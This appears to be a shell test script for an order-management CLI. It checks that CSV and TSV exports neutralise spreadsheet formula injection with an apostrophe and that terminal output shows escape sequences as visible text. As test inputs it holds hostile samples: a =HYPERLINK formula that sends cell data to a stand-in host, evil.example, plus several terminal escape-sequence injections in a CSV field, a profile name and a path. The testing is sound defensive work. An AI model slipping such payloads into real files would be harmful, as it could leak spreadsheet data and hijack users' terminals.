#!/bin/sh
# CSV and TSV for spreadsheets: cells that would start a formula carry an
# apostrophe in every listing, report and rejects file (--raw for scripts);
# a CSV file written for people starts with a BOM, standard output only with
# --bom; a fixed rejects file imports back as the original would; nothing
# reaches a terminal raw.  Opened by LibreOffice when it is installed.
. "$(dirname "$0")/lib.sh"
D=$(cd "$(dirname "$0")/../data/import" && pwd)
export ORDESK_NOW="2026-11-16 09:00"
BOM=$(printf '\357\273\277')
starts_bom() { [ "$(head -c 3 "$1")" = "$BOM" ]; }
q() { sqlite3 "$DB" "$1"; }

od init >/dev/null
od stock import "$D/catalog.csv" >/dev/null
expect_status 0 "import with formulas" od import --rejects "$T/rej.csv" "$D/generic-formulas.csv"
contains "$T/out" "2 rows rejected" "the ZZ row and the row without a channel are rejected"
check "stored as given" [ "$(q "SELECT note FROM orders WHERE channel_ref = 'F-1'")" = "-3" ]
check "a ref of =1+2 stored as given" [ "$(q "SELECT count(*) FROM orders WHERE channel_ref = '=1+2'")" = 1 ]

# --- the guard, in every listing --------------------------------------------
od orders --format csv >"$T/o.csv"
contains "$T/o.csv" "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&B2,\"\"Click\"\")\"" "orders csv: a formula customer has the apostrophe"
contains "$T/o.csv" "\"'=1+2\"" "orders csv: a formula ref has the apostrophe"
lacks "$T/o.csv" "\"=" "orders csv: no cell starts with ="
check "orders csv: no BOM on standard output" sh -c "! head -c 3 '$T/o.csv' | grep -q '$BOM'"
od orders --format csv --bom >"$T/ob.csv"
check "orders csv --bom: a BOM on standard output" starts_bom "$T/ob.csv"
od orders --format csv --raw >"$T/or.csv"
contains "$T/or.csv" "\"=1+2\"" "orders csv --raw: the cell as stored"
od orders --format tsv >"$T/o.tsv"
grep -q "	'=1+2	" "$T/o.tsv" && ok "orders tsv: the apostrophe" || not_ok "orders tsv: $(grep F- "$T/o.tsv")"
od orders --format tsv --raw | grep -q "	=1+2	" && ok "orders tsv --raw: as stored" || not_ok "orders tsv --raw"
od orders >"$T/o.txt"
lacks "$T/o.txt" "'=1+2" "the table for people has no apostrophe"

n1=$(q "SELECT order_no FROM orders WHERE channel_ref = 'F-1'")
od exception raise "$n1" customer_change --note "=2+3 new address" >/dev/null
od exception list --format csv >"$T/e.csv"
contains "$T/e.csv" "\"'=2+3 new address\"" "exception list csv: the apostrophe"
od exception list --format csv --raw | grep -q '"=2+3 new address"' && ok "exception list --raw" || not_ok "exception list --raw"
od review add --week 2026-W46 --cause channel_data --action "@channel: fix phones" --owner "$(id -un)" --due 2026-11-20 >/dev/null
od review list --format csv >"$T/r.csv"
contains "$T/r.csv" "\"'@channel: fix phones\"" "review list csv: the apostrophe"
printf 'sku,name,warehouse,on_hand\r\nCUP-9,"-cup, blue",MAIN,5\r\n' >"$T/cat2.csv"
od stock import "$T/cat2.csv" >/dev/null
od stock list --format csv >"$T/s.csv"
contains "$T/s.csv" "\"'-cup, blue\"" "stock list csv: the apostrophe"
grep -q '"-cup, blue"' "$T/s.csv" && not_ok "stock list csv: a raw -cup" || ok "stock list csv: no raw -cup"
od stock list --format csv --raw | grep -q '"-cup, blue"' && ok "stock list --raw: as stored" || not_ok "stock list --raw"
od stock list --format csv --bom | head -c 3 | grep -q "$BOM" && ok "stock list --bom" || not_ok "stock list --bom"


# The report: -o writes a file for people (BOM); standard output only with --bom.
od report weekly --week 2026-W47 --format csv -o "$T/week.csv" >/dev/null
check "report -o csv starts with a BOM" starts_bom "$T/week.csv"
contains "$T/week.csv" "\"'=2+3 new address\"" "report csv: the apostrophe"
od report weekly --week 2026-W47 --format csv >"$T/week-out.csv"
check "report csv on standard output: no BOM" sh -c "! head -c 3 '$T/week-out.csv' | grep -q '$BOM'"
tail -c +4 "$T/week.csv" | cmp -s - "$T/week-out.csv" && ok "report: the file is stdout after a BOM" || not_ok "report: file is not stdout after a BOM"
od report weekly --week 2026-W47 --format csv --bom | head -c 3 | grep -q "$BOM" && ok "report --bom" || not_ok "report --bom"
od report weekly --week 2026-W47 --format csv --raw | grep -q '"=2+3 new address"' && ok "report --raw" || not_ok "report --raw"
od report weekly --week 2026-W47 --format txt -o "$T/week.txt" >/dev/null
check "report -o txt: no BOM" sh -c "! head -c 3 '$T/week.txt' | grep -q '$BOM'"

# --- the rejects file ---------------------------------------------------------
check "the rejects file starts with a BOM" starts_bom "$T/rej.csv"
contains "$T/rej.csv" "\"'@SUM(1+1)\"" "rejects: a formula customer has the apostrophe"
contains "$T/rej.csv" "\"'+44 20 7946 0102\"" "rejects: a + phone has the apostrophe"
contains "$T/rej.csv" "\"'+2 Back Lane, Leeds\"" "rejects: a + address has the apostrophe"
contains "$T/rej.csv" '"-3","sale","","-12.50"' "rejects: plain negative numbers stay numbers"
contains "$T/rej.csv" "\"'-\",\"4 Test Road" "rejects: a lone - is guarded"
contains "$T/rej.csv" "\"'=kept as typed\"" "rejects: a cell with an apostrophe already is left alone"
[ "$(head -1 "$T/rej.csv" | tail -c +4 | tr -d '\r')" = '"channel","order_ref","ordered_at","customer","tier","phone","address","sku","qty","unit_price","type","flags","note","reason"' ] \
	&& ok "rejects header after the BOM" || not_ok "rejects header: $(head -1 "$T/rej.csv")"

# Fixed (the channel corrected) and sent again, the rejected row becomes the
# order the corrected original makes: the export's apostrophes come off, no more.
roundtrip() {   # NAME ORIGINAL REJECTS-FIX-SED ORIGINAL-FIX-SED
	rm -f "$T/a.db" "$T/b.db"
	for s in a b; do "$ORDESK" --db "$T/$s.db" init >/dev/null; "$ORDESK" --db "$T/$s.db" stock import "$D/catalog.csv" >/dev/null; done
	"$ORDESK" --db "$T/b.db" import --rejects "$T/rt-rej.csv" "$2" >/dev/null
	sed "$3" "$T/rt-rej.csv" >"$T/rt-fixed.csv"
	sed "$4" "$2" >"$T/rt-orig.csv"
	"$ORDESK" --db "$T/a.db" import "$T/rt-orig.csv" >"$T/rt-a.out"
	"$ORDESK" --db "$T/b.db" import "$T/rt-fixed.csv" >"$T/rt-b.out"
	sel="SELECT o.channel, o.channel_ref, o.customer, o.phone, o.address, o.note, o.tier, o.type, o.flags,
	            o.ordered_at, o.total_cents, l.sku, l.name, l.qty, l.unit_price_cents
	     FROM orders o JOIN order_lines l ON l.order_id = o.id ORDER BY o.channel_ref, l.line_no"
	sqlite3 "$T/a.db" "$sel" >"$T/rt-a"
	sqlite3 "$T/b.db" "$sel" >"$T/rt-b"
	if [ -s "$T/rt-a" ] && cmp -s "$T/rt-a" "$T/rt-b"; then ok "$1: round trip"; else
		not_ok "$1: round trip"; diff "$T/rt-a" "$T/rt-b" | sed 's/^/#   /' | head; fi
}
roundtrip "generic, a formula customer, a + phone, an apostrophe typed" "$D/generic-formulas.csv" \
	's/^"ZZ"/"EC"/; s/^""/"EC"/' 's/^ZZ,/EC,/; s/^,F-4/EC,F-4/'
check "generic round trip: the note read as the original's" [ "$(sqlite3 "$T/b.db" "SELECT note FROM orders WHERE channel_ref = 'F-2'")" = "=kept as typed" ]
check "generic round trip: the customer" [ "$(sqlite3 "$T/b.db" "SELECT customer FROM orders WHERE channel_ref = 'F-2'")" = "@SUM(1+1)" ]
# Douyin: ids and phones behind a TAB; a row whose id a spreadsheet mangled is
# rejected (both rows of the order) and its id typed again.  The TAB is
# still stripped.
tab=$(printf '\t')
sed "s/\"${tab}6920001234567890123\"/6.92000123456789E+18/" "$D/douyin-bom.csv" >"$T/douyin-mangled.csv"
roundtrip "douyin, TAB-protected ids and phones" "$T/douyin-mangled.csv" \
	"s/^\"6.92000123456789E+18\"/\"${tab}6920001234567890123\"/" \
	"s/^6.92000123456789E+18,/\"${tab}6920001234567890123\",/"
check "douyin round trip: the phone without its TAB" \
	[ "$(sqlite3 "$T/b.db" "SELECT phone FROM orders WHERE channel_ref = '6920001234567890123'")" = 13700001111 ]

# --rejects -: the rows on standard output (no BOM), the summary on standard error.
od import --dry-run --rejects - "$D/generic-formulas.csv" >"$T/rej-out" 2>"$T/rej-err"
contains "$T/rej-out" "\"'@SUM(1+1)\"" "--rejects -: the rows on standard output"
lacks "$T/rej-out" "rows read" "--rejects -: no summary among the rows"
contains "$T/rej-err" "2 rows rejected" "--rejects -: the summary on standard error"
check "--rejects -: no BOM on standard output" sh -c "! head -c 3 '$T/rej-out' | grep -q '$BOM'"
od import --dry-run --bom --rejects - "$D/generic-formulas.csv" 2>/dev/null | head -c 3 | grep -q "$BOM" \
	&& ok "--rejects - --bom: a BOM" || not_ok "--rejects - --bom: no BOM"
od import --dry-run --raw --rejects - "$D/generic-formulas.csv" 2>/dev/null | grep -q '"@SUM(1+1)"' \
	&& ok "--rejects - --raw: as read" || not_ok "--rejects - --raw"

# --- nothing raw on a terminal -------------------------------------------------
esc=$(printf '\033')
on_tty() { script -qec "$1" /dev/null </dev/null >"$2" 2>&1; }
printf 'channel,order_ref,ordered_at,customer,tier,phone,address,sku,qty,unit_price,type,flags,note\r\nZZ,H-1,2026-11-16 08:00,"\033]0;owned\007\033[2J",,1,x,MUG-01,1,1,,,\r\n' >"$T/hostile.csv"
if command -v script >/dev/null 2>&1; then
	on_tty "'$ORDESK' --db '$DB' import --dry-run --rejects /dev/tty '$T/hostile.csv'" "$T/tty1"
	contains "$T/tty1" '\x1B]0;owned' "--rejects /dev/tty: the row shown with escapes made visible"
	lacks "$T/tty1" "$esc" "--rejects /dev/tty: no raw escape"
	lacks "$T/tty1" "$BOM" "--rejects /dev/tty: no BOM on a terminal"
	on_tty "'$ORDESK' --db '$DB' import --dry-run --rejects - '$T/hostile.csv'" "$T/tty2"
	lacks "$T/tty2" "$esc" "--rejects - on a terminal: no raw escape"
	# on disk the rejects file stays byte-exact: the escape is kept inside its quotes
	od import --dry-run --rejects "$T/hrej.csv" "$T/hostile.csv" >/dev/null
	grep -q "$esc" "$T/hrej.csv" && ok "the rejects file on disk keeps the bytes" || not_ok "the rejects file lost the bytes"
else
	echo "# skipped: script(1) is missing, the terminal checks need it"
fi
# A profile file that names itself with escape sequences.
sed "s/^profile .*/profile gen$(printf '\033')[31mred/" "$(dirname "$0")/../../data/profiles/generic.profile" >"$T/esc.profile"
od import --dry-run --profile "$T/esc.profile" "$D/generic-multiline.csv" >"$T/p.out" 2>&1
lacks "$T/p.out" "$esc" "import summary: the profile's name without raw escapes"
contains "$T/p.out" 'gen\x1B[31mred' "import summary: the profile's name made visible"
# init names the store path, cleaned.
mkdir -p "$T/a$(printf '\033')]0;x$(printf '\007')b"
"$ORDESK" --db "$T/a$(printf '\033')]0;x$(printf '\007')b/s.db" init >"$T/init.out" 2>&1
lacks "$T/init.out" "$esc" "init: the store path without raw escapes"
contains "$T/init.out" 'a\x1B]0;x\x07b' "init: the store path made visible"

# --- a real spreadsheet reader ---------------------------------------------------
# LibreOffice reads the files as UTF-8 with formulas evaluated: the BOM must not
# reach the first header, Chinese must read right, and no guarded cell may
# become a formula (the same file with --raw shows the reader does evaluate).
if command -v soffice >/dev/null 2>&1; then
	mkdir -p "$T/lo" "$T/lo-in"
	cp "$T/rej.csv" "$T/lo-in/rejects.csv"
	od orders --format csv --bom >"$T/lo-in/orders.csv"
	od orders --format csv --bom --raw >"$T/lo-in/orders-raw.csv"
	"$ORDESK" --db "$T/b.db" orders --format csv --bom >"$T/lo-in/douyin.csv"
	HOME=$T/lo-home timeout 180 soffice --headless \
		--infilter="CSV:44,34,76,1,,0,false,false,false,false,false,-1,true" \
		--convert-to "csv:Text - txt - csv (StarCalc):44,34,76" --outdir "$T/lo" \
		"$T/lo-in/rejects.csv" "$T/lo-in/orders.csv" "$T/lo-in/orders-raw.csv" "$T/lo-in/douyin.csv" >/dev/null 2>&1
	check "libreoffice converted the files" [ -s "$T/lo/orders.csv" ] && [ -s "$T/lo/rejects.csv" ]
	head -1 "$T/lo/rejects.csv" | grep -q '^channel,' && ok "libreoffice: the BOM is not part of the first header" || not_ok "libreoffice: first header $(head -1 "$T/lo/rejects.csv")"
	contains "$T/lo/douyin.csv" "张伟" "libreoffice: Chinese reads right"
	contains "$T/lo/orders.csv" "'=HYPERLINK(" "libreoffice: the guarded customer is text"
	contains "$T/lo/orders.csv" "'=1+2" "libreoffice: the guarded ref is text"
	contains "$T/lo/rejects.csv" "'+44 20 7946 0102" "libreoffice: the + phone is text"
	contains "$T/lo/rejects.csv" "'@SUM(1+1)" "libreoffice: the guarded @ cell is text"
	grep -q "'=HYPERLINK" "$T/lo/orders.csv" && ok "libreoffice: the HYPERLINK stays text" || not_ok "libreoffice: HYPERLINK evaluated"
	# the same cells unguarded are evaluated: =1+2 comes back as 3
	grep -q ',3,new,' "$T/lo/orders-raw.csv" && ok "libreoffice evaluates an unguarded =1+2 (the check can fail)" \
		|| not_ok "libreoffice did not evaluate the raw =1+2: $(grep new "$T/lo/orders-raw.csv" | head -3)"
else
	echo "# skipped: LibreOffice (soffice) is not installed; apt-get install libreoffice-calc-nogui to run the spreadsheet checks"
fi
finish
